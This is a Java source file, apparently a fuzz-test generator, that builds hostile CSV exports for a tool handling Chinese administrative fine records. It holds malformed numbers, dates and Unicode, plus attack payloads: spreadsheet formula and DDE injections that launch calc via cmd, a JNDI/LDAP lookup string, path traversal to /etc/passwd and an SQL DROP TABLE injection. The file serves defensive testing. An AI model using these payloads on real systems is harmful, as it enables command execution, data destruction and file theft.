package org.fineaudit.attack;

import java.util.ArrayList;
import java.util.List;

/** Values that no export should hold. */
final class ValueAttacks {
  private static final int MILLION = 1_000_000;

  private final List<Attack> attacks = new ArrayList<>();

  static List<Attack> all() {
    ValueAttacks all = new ValueAttacks();
    all.each("罚款金额(元)", fines());
    all.each("处罚决定日期", dates());
    for (String column : List.of("行政相对人名称", "行政处罚决定书文号", "处罚内容")) {
      all.each(column, texts());
    }
    all.each("处罚内容", longTexts());
    all.each("处罚依据", citations());
    all.each("处罚机关", List.of("", "甲".repeat(MILLION), "=cmd|' /C calc'!A0", "\0", "../../甲"));
    return all.attacks;
  }

  private void each(String column, List<String> values) {
    for (String value : values) {
      String name = "value-%03d.csv".formatted(attacks.size());
      attacks.add(
          new Attack(
              Attack.Group.EXPORT,
              name,
              () ->
                  Tables.csv(Tables.with(column, value))
                      .getBytes(java.nio.charset.StandardCharsets.UTF_8)));
    }
  }

  private static List<String> fines() {
    return List.of(
        "1e999999999",
        "-1e999999999",
        "1e-999999999",
        "1E400",
        "9".repeat(40),
        "0." + "0".repeat(40),
        "9".repeat(100_000),
        "-1",
        "NaN",
        "Infinity",
        "0x1F",
        "1,2,3,4",
        "１２３",
        "壹".repeat(9_999),
        "亿".repeat(9_999),
        "万亿万亿万亿万亿元",
        "十十十十",
        "罚款",
        "=1+1",
        "2000元2000元",
        "1.2.3.4",
        "٣٤٥",
        "½",
        "∞",
        "1_000",
        "+2000",
        "2000.005",
        "99999999999999999999.99",
        "0",
        "-0",
        "\u202E0002");
  }

  private static List<String> dates() {
    return List.of(
        "0000-00-00",
        "0000-01-01",
        "0001-01-01",
        "9999-12-31",
        "99999-01-01",
        "-2024-01-01",
        "2024-02-30",
        "2024-13-01",
        "20240230",
        "99999999999999",
        "1e9",
        "45000",
        "45000.999999",
        "-1",
        "2958466",
        "1e999999999",
        "二〇二四年二月三十日",
        "〇年〇月〇日",
        "2024-04-01T25:61:61",
        "今天",
        "2024",
        "1528646400000",
        "9223372036854775807",
        "2024年".repeat(5_000),
        "３０２４－０４－０１");
  }

  private static List<String> texts() {
    return List.of(
        "甲\u0000乙",
        "\u0001\u0002\u0007\u0008\u000B\u000C\u000E\u001B[31m\u007F\u0085\u009B",
        "甲\u202E乙\u202C\u2066丙\u2069\u200F",
        "\u200B\uFEFF\u2060",
        "甲\uFFFE\uFFFF",
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "=HYPERLINK(\"http://x.invalid\",\"甲\")",
        "=DDE(\"cmd\";\"/C calc\";\"1\")",
        "_x000D__x0041_",
        "_xD800_",
        "<b>甲</b>&amp;&#0;",
        "]]>",
        "${jndi:ldap://x.invalid/a}",
        "{{7*7}}",
        "%s%n%d",
        "../../../etc/passwd",
        "'; DROP TABLE t;--",
        "'=1",
        "甲\n乙\r\n丙",
        "e\u0301".repeat(5_000),
        "\uD83D\uDC68\u200D\uD83D\uDC69".repeat(500),
        "张三身份证410402199001011234电话13812345678",
        "410402900101123，0375-2345678");
  }

  private static List<String> longTexts() {
    return List.of(
        "甲".repeat(32_767),
        "甲".repeat(32_768),
        "甲".repeat(MILLION),
        "（".repeat(200_000),
        "《".repeat(200_000) + "第".repeat(200_000),
        "一二百千万亿".repeat(20_000),
        "第一条".repeat(50_000),
        "罚款1元".repeat(50_000),
        "\"".repeat(100_000),
        "=".repeat(100_000),
        " ".repeat(MILLION),
        "\n".repeat(200_000),
        "罚款" + "1".repeat(MILLION) + "元",
        "不".repeat(MILLION),
        "责令改正".repeat(50_000),
        "\uD83D\uDE00".repeat(200_000),
        "从轻减轻不予处罚".repeat(20_000),
        "当事人称".repeat(50_000),
        "2024年1月1日".repeat(30_000),
        "依据《甲法》第一条、".repeat(20_000));
  }

  private static List<String> citations() {
    return List.of(
        "《" + "甲".repeat(200_000) + "》第一条",
        "第" + "9".repeat(100_000) + "条",
        "第零条",
        "第亿亿亿条",
        "《甲》".repeat(50_000),
        "《《《《》》》》第第条条款款",
        "《城市道路管理条例》第四十二条".repeat(10_000),
        "》《",
        "第一条第一款第（一）项之".repeat(10_000));
  }
}
